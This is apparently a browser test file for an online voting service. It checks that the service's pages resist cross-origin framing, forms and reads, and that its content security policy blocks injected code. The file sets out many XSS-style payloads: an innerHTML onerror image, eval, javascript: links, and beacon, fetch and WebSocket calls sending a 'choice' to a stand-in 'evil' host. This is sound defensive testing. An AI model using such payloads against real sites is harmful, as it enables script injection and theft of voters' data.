// SPDX-License-Identifier: Apache-2.0
// Other origins, and what would run inside the page: frames, forms, foreign requests, injected code. Each is refused, and it is seen that it is.

const PAGES = ['/booth/', '/check/', '/board/'];

async function framed(stage, page, evil) {
  await page.goto(evil);
  for (const path of PAGES) {
    const frame = page.frames().find((one) => one.name() === path);
    stage.expect(`${path} in a frame of another origin: refused`, frame?.url().startsWith('chrome-error:') ?? false, frame?.url());
  }
}

/** What a script of another origin gets of the services: nothing that it could read. */
async function foreignCalls(stage, page) {
  const calls = [['GET', '/ballot-box/election'], ['GET', '/ballot-box/board/checkpoint'], ['GET', '/registrar/questionnaire'], ['POST', '/registrar/enrol/begin'], ['POST', '/ballot-box/cast'],
    ['POST', '/relay/boxes'], ['POST', '/registrar/reports'], ['GET', '/site.json']];
  for (const [method, path] of calls) {
    const read = await page.evaluate(([how, url]) => fetch(url, {method: how, ...(how === 'POST' ? {headers: {'Content-Type': 'application/json'}, body: '{}'} : {})}).then(() => 'read', (error) => error.name),
      [method, stage.origin + path]);
    stage.expect(`${method} ${path} from another origin: unreadable`, read === 'TypeError', read);
  }
  const loads = await page.evaluate((url) => new Promise((done) => {
    const one = document.createElement('script');
    one.onload = () => done('loaded');
    one.onerror = () => done('refused');
    one.src = url;
    document.head.append(one);
  }), `${stage.origin}/manifest.txt`);
  stage.expect('a file of the page as a script of another origin: refused', loads === 'refused', loads);
}

/** Forms need no permission to be sent; what they send is not taken. */
async function foreignForms(stage, page, evil) {
  for (const path of ['/registrar/enrol/begin', '/registrar/grant/begin', '/registrar/applications', '/registrar/reports', '/ballot-box/cast', '/relay/boxes', '/booth/']) {
    for (const enctype of ['text/plain', 'application/x-www-form-urlencoded']) {
      await page.goto('about:blank');
      await page.goto(evil);
      const [response] = await Promise.all([page.waitForResponse(stage.origin + path), page.evaluate(([action, how]) => {
        const form = Object.assign(document.createElement('form'), {method: 'POST', action, enctype: how});
        form.append(Object.assign(document.createElement('input'), {name: '{"code":"', value: '"}'}));
        document.body.append(form);
        form.submit();
      }, [stage.origin + path, enctype])]);
      await page.waitForURL(stage.origin + path);
      stage.expect(`form of another origin to ${path} as ${enctype}: refused`, response.status() >= 400, response.status());
    }
  }
}

async function opened(stage, page, context, evil) {
  await page.goto(evil);
  const [popup] = await Promise.all([context.waitForEvent('page'), page.evaluate((url) => { window.held = window.open(url); }, `${stage.origin}/booth/`)]);
  await popup.getByRole('heading', {level: 1}).waitFor();
  const inner = await popup.evaluate(() => [window.opener === null, document.referrer]);
  const outer = await page.evaluate(() => window.held.closed);
  stage.expect('a window opened by another origin knows no opener, and the opener does not hold it', inner[0] && outer, [inner, outer]);
  stage.expect('and was told no referrer', inner[1] === '' || inner[1] === `${evil}`, inner);
  await popup.close();
}

export async function otherOrigins(stage) {
  const evil = 'http://localhost:18899/';
  const made = await stage.device();
  const {page, context, liar} = made;
  made.strangers = true;
  liar.pages.set(evil, `<!doctype html><title>stranger</title>${PAGES.map((path) => `<iframe name="${path}" src="${stage.origin}${path}"></iframe>`).join('')}`);
  await framed(stage, page, evil);
  liar.pages.set(evil, '<!doctype html><title>stranger</title><body>stranger');
  await page.goto(evil);
  await foreignCalls(stage, page);
  await foreignForms(stage, page, evil);
  await opened(stage, page, context, evil);
  await context.close();
}

/** Runs inside the page, as code that got in would: each attack by its name, with what it threw. */
function attacks(evil) {
  const element = (name, fields, parent = document.body) => {
    const one = document.createElement(name);
    for (const [field, value] of Object.entries(fields)) one.setAttribute(field, value);
    parent.append(one);
    return one;
  };
  const tried = {
    'inline script': () => { const one = document.createElement('script'); one.append('window.hit = 1'); document.body.append(one); },
    eval: () => (0, eval)('window.hit = 1'),
    Function: () => new Function('window.hit = 1')(),
    'text as a timer': () => setTimeout('window.hit = 1'),
    innerHTML: () => { document.body.innerHTML += '<img src=x onerror="window.hit=1">'; },
    'another policy': () => trustedTypes.createPolicy('other', {createHTML: (text) => text}),
    'script address': () => { document.createElement('script').src = `${evil}x.js`; },
    'remote module': () => import(`${evil}module.js`).catch(() => undefined),
    'remote picture': () => { new Image().src = `${evil}beacon?choice`; },
    'remote style': () => element('link', {rel: 'stylesheet', href: `${evil}x.css`}, document.head),
    'style element': () => { const one = document.createElement('style'); one.append('#page{opacity:0.5}'); document.head.append(one); },
    'style attribute': () => element('p', {style: `background:url(${evil}style)`}),
    fetch: () => fetch(`${evil}fetch`).catch(() => undefined),
    beacon: () => navigator.sendBeacon(`${evil}beacon`, 'choice'),
    socket: () => new WebSocket(evil.replace('http', 'ws')),
    stream: () => new EventSource(`${evil}stream`),
    frame: () => element('iframe', {src: `${evil}frame`}),
    object: () => element('object', {data: `${evil}object`}),
    audio: () => element('audio', {src: `${evil}audio`, preload: 'auto'}),
    prefetch: () => element('link', {rel: 'prefetch', href: `${evil}prefetch`}, document.head),
    form: () => element('form', {action: `${evil}form`, method: 'POST'}).submit(),
    'worker of one\'s own': () => new Worker(URL.createObjectURL(new Blob(['']))),
    'javascript: link': () => element('a', {href: 'javascript:window.hit=1'}).click(),
    'event attribute': () => element('button', {onclick: 'window.hit=1'}).click(),
    'address of a link': () => { location.href = 'javascript:window.hit=1'; },
  };
  window.threw = {};
  setTimeout(() => {
    for (const [name, attack] of Object.entries(tried)) {
      try {
        attack();
      } catch (error) {
        window.threw[name] = error.name;
      }
    }
    // Last, because addresses that are relative after it would go elsewhere.
    element('base', {href: evil}, document.head);
    window.tried = true;
  });
}

const DIRECTIVES = ['script-src-elem', 'style-src-elem', 'style-src-attr', 'img-src', 'connect-src', 'frame-src', 'media-src', 'form-action', 'base-uri',
  'require-trusted-types-for', 'trusted-types'];

export async function insideThePage(stage) {
  for (const path of PAGES) {
    const made = await stage.device();
    const {page, context, liar} = made;
    made.attacked = true;
    await page.goto(stage.origin + path);
    await page.getByRole('heading', {level: 1}).waitFor();
    const before = liar.log.length;
    await page.evaluate(attacks, 'http://localhost:18899/');
    await page.waitForFunction((all) => window.tried && all.every((one) => window.violations.some((told) => told.startsWith(one))), DIRECTIVES).catch(() => undefined);
    const {hit, violations, threw, base, opacity} = await page.evaluate(() => ({hit: window.hit, violations: window.violations, threw: window.threw, base: document.baseURI,
      opacity: getComputedStyle(document.querySelector('#page')).opacity}));
    const missing = DIRECTIVES.filter((one) => !violations.some((told) => told.startsWith(one)));
    stage.expect(`${path} code that got in runs nothing more`, hit === undefined && opacity === '1' && base === stage.origin + path, {hit, opacity, base});
    stage.expect(`${path} every attack is told of by the policy: ${DIRECTIVES.length} directives`, missing.length === 0, {missing, violations, threw});
    stage.expect(`${path} texts that would become code throw`, ['innerHTML', 'another policy', 'script address', 'object'].every((name) => threw[name] === 'TypeError') && 'eval' in threw && 'Function' in threw, threw);
    const foreign = liar.log.slice(before).filter(({url}) => url.origin !== stage.origin && url.hostname !== 'content-autofill.googleapis.com').map(({url}) => url.href);
    stage.expect(`${path} no request for another origin leaves the browser`, foreign.length === 0, foreign);
    await context.close();
  }
}

/** Whatever the reporter of this visit was: what did the browsers ask, of whom, and what did the addresses say? */
export function whatLeft(stage, secrets) {
  const provider = new URL(stage.rig.first.provider).origin;
  // Chromium itself asks its maker what the fields of a form are for; no page can forbid that (docs/THREATS.md).
  const visits = stage.devices.flatMap(({liar, strangers = false}) => (strangers ? [] : liar.log)).filter(({url}) => url.hostname !== 'content-autofill.googleapis.com');
  const elsewhere = visits.filter(({url}) => ![stage.origin, provider].includes(url.origin)).map(({method, url}) => `${method} ${url.href}`);
  stage.expect(`${visits.length} requests of all visits: none leaves for anybody but the origin and, after a click, the provider`, elsewhere.length === 0, elsewhere);
  const own = visits.filter(({url}) => url.origin === stage.origin);
  stage.expect('none carries a cookie', own.every(({headers}) => headers.cookie === undefined), own.filter(({headers}) => headers.cookie).map(({url}) => url.href));
  const referred = visits.filter(({headers}) => headers.referer !== undefined && !headers.referer.startsWith(provider));
  stage.expect('none tells a referrer of the pages', referred.length === 0, referred.map(({url, headers}) => [url.href, headers.referer]));
  const told = visits.filter(({url}) => secrets.some((secret) => decodeURIComponent(url.href).includes(secret)));
  stage.expect('no address holds letter, code, choice or key', told.length === 0, told.map(({url}) => url.href));
  const strange = own.filter(({url}) => url.pathname.startsWith('/ballot-box/'))
    .filter(({url}) => !/^\/ballot-box\/(contents|election|epoch|cast|board\/(checkpoint|checkpoints\/\d+|tile\/[\w/.]+|blob\/[0-9a-f]{2}\/[0-9a-f]{64})|run\/\d+\/\d+)$/.test(url.pathname));
  stage.expect('the ballot box is asked for whole runs, never for a slot', strange.length === 0, strange.map(({url}) => url.pathname));
  const queries = own.filter(({url}) => url.search !== '' && url.pathname !== '/booth/signed-in').map(({url}) => url.href);
  stage.expect('no address of the origin has a query but the answer of the provider', queries.length === 0, queries);
}

